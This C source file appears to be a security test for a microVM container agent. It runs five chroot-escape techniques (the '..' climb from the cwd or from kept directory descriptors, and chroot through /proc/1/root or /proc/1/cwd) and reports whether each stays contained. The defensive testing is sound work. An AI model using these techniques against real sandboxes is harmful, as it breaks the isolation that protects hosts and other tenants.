/* chroot-escape.sh's probe, run as the workload of a microVM (root, containerd's default
 * capabilities, CAP_SYS_CHROOT among them). The agent puts the container's root over the
 * initramfs ("/" of the guest) by MS_MOVE and chroot, so the initramfs stays the mount
 * namespace's root mount, underneath: this tries to climb out to it with the classic chroot
 * escapes and says, per attempt, where it ended up. "contained" when the root it ends with
 * is still the container's; "ESCAPED" with what it could see and open there (the
 * initramfs's /init is the agent, its /dev the guest's devtmpfs: disks and the agent's
 * channel). Exit 0: every attempt ran and stayed inside; 2: one got out; 1: an attempt
 * could not even be made (chroot refused: the test would prove nothing). */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define SUBDIR "/tmp/chroot-escape-jail"

static struct stat container_root;

static int same(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* What the process sees from "/" after an attempt: 0 contained, 2 escaped. */
static int report(const char *name, const char *how) {
  struct stat st;
  if (stat("/", &st) < 0) {
    printf("attempt %s: contained (%s; stat / failed: %s)\n", name, how, strerror(errno));
    return 0;
  }
  int init = access("/init", F_OK) == 0, agent_run = access("/run/rootfs", F_OK) == 0;
  if (same(&st, &container_root) && !init && !agent_run) {
    printf("attempt %s: contained (%s)\n", name, how);
    return 0;
  }
  printf("attempt %s: ESCAPED (%s): / is dev %lu ino %lu, the container's dev %lu ino %lu\n", name,
         how, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
         (unsigned long)container_root.st_dev, (unsigned long)container_root.st_ino);
  DIR *d = opendir("/");
  if (d) {
    const struct dirent *e;
    printf("  ls /:");
    while ((e = readdir(d))) printf(" %s", e->d_name);
    printf("\n");
    closedir(d);
  }
  static const char *const paths[] = {"/init",     "/dev/vda",    "/dev/vdb",
                                      "/dev/hvc0", "/run/rootfs", "/run/agent-cgroup"};
  for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
    int fd = open(paths[i], O_RDONLY | O_NONBLOCK | O_NOCTTY);
    printf("  open %s: %s\n", paths[i], fd >= 0 ? "opened" : strerror(errno));
    if (fd >= 0) close(fd);
  }
  return 2;
}

/* Climbs from the cwd as far as ".." goes, then makes that the root. */
static int climb_and_chroot(void) {
  for (int i = 0; i < 256; i++)
    if (chdir("..") < 0) return -1;
  return chroot(".");
}

static int jail(void) {
  if (mkdir(SUBDIR, 0700) < 0 && errno != EEXIST) return -1;
  return chroot(SUBDIR);
}

/* Each attempt runs in a child of its own, so that one's chroot does not start the next. */
static int attempt(int which) {
  const char *name = "?";
  int fd;
  struct stat st;
  switch (which) {
    case 0:
      /* the classic: chroot into a subdirectory while the cwd stays above it, climb */
      name = "cwd-dotdot";
      if (chdir("/") < 0 || jail() < 0) goto setup;
      if (climb_and_chroot() < 0) goto refused;
      return report(name, "chroot(subdir), chdir(\"..\") x256, chroot(\".\")");
    case 1:
      /* the same from a directory descriptor kept across the chroot */
      name = "fd-dotdot";
      fd = open("/", O_RDONLY | O_DIRECTORY);
      if (fd < 0 || jail() < 0 || chdir("/") < 0) goto setup;
      if (fchdir(fd) < 0 || climb_and_chroot() < 0) goto refused;
      return report(name, "open(\"/\"), chroot(subdir), fchdir, chdir(\"..\") x256, chroot(\".\")");
    case 2:
      /* openat(fd, "..") from the descriptor, never through the cwd */
      name = "openat-dotdot";
      fd = open("/", O_PATH | O_DIRECTORY);
      if (fd < 0 || jail() < 0 || chdir("/") < 0) goto setup;
      for (int i = 0; i < 256; i++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY);
        if (up < 0) goto refused;
        close(fd);
        fd = up;
      }
      if (fstat(fd, &st) < 0 || fchdir(fd) < 0 || chroot(".") < 0) goto refused;
      return report(name, "openat(fd, \"..\") x256, fchdir, chroot(\".\")");
    case 3:
    case 4:
      /* the agent (pid 1 of the guest) stands in the initramfs: its root and cwd links */
      name = which == 3 ? "proc-1-root" : "proc-1-cwd";
      fd = open(which == 3 ? "/proc/1/root" : "/proc/1/cwd", O_PATH | O_DIRECTORY);
      if (fd < 0) {
        printf("attempt %s: contained (open /proc/1/%s refused: %s)\n", name,
               which == 3 ? "root" : "cwd", strerror(errno));
        return 0;
      }
      if (fchdir(fd) < 0 || chroot(".") < 0) goto refused;
      return report(name, "open /proc/1/..., fchdir, chroot(\".\")");
  }
  return 1;
refused:
  /* (its root is the subdirectory now: nothing more to look at) */
  printf("attempt %s: contained (refused: %s)\n", name, strerror(errno));
  return 0;
setup:
  printf("attempt %s: could not be made: %s\n", name, strerror(errno));
  return 1;
}

int main(void) {
  if (stat("/", &container_root) < 0) {
    perror("stat /");
    return 1;
  }
  int worst = 0;
  for (int which = 0; which < 5; which++) {
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) {
      perror("fork");
      return 1;
    }
    if (p == 0) {
      int r = attempt(which);
      fflush(stdout);
      _exit(r);
    }
    int status;
    if (waitpid(p, &status, 0) < 0 || !WIFEXITED(status)) {
      printf("attempt %d: the child died\n", which);
      return 1;
    }
    int r = WEXITSTATUS(status);
    if (r == 2 || (r == 1 && worst == 0)) worst = r;
  }
  printf("chroot-escape: %s\n", worst == 0   ? "every attempt stayed in the container's root"
                                : worst == 2 ? "ESCAPED"
                                             : "an attempt could not be made");
  return worst;
}
